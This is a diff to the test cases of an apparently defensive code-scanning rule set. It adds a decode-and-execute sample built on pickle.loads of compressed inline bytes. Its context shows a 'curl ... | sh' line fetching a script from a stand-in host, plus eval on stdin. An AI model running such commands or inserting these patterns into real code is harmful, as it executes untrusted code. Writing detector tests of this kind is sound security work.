@@ -35,6 +35,12 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "ret = context.eval(sys.stdin.read())\n",
     ),
     (
+        decode_and_execute_rule,
+        "state.py",
+        "import pickle, zlib\nstate = pickle.loads(zlib.decompress(b'x\\x9c\\xcb\\x48'))\n",
+        "import pickle\nwith open(path, 'rb') as f:\n    state = pickle.loads(f.read())\n",
+    ),
+    (
         executes_code_at_remote_url_rule,
         "install.sh",
         "curl -fsSL https://x.example.net/i.sh | sh\n",
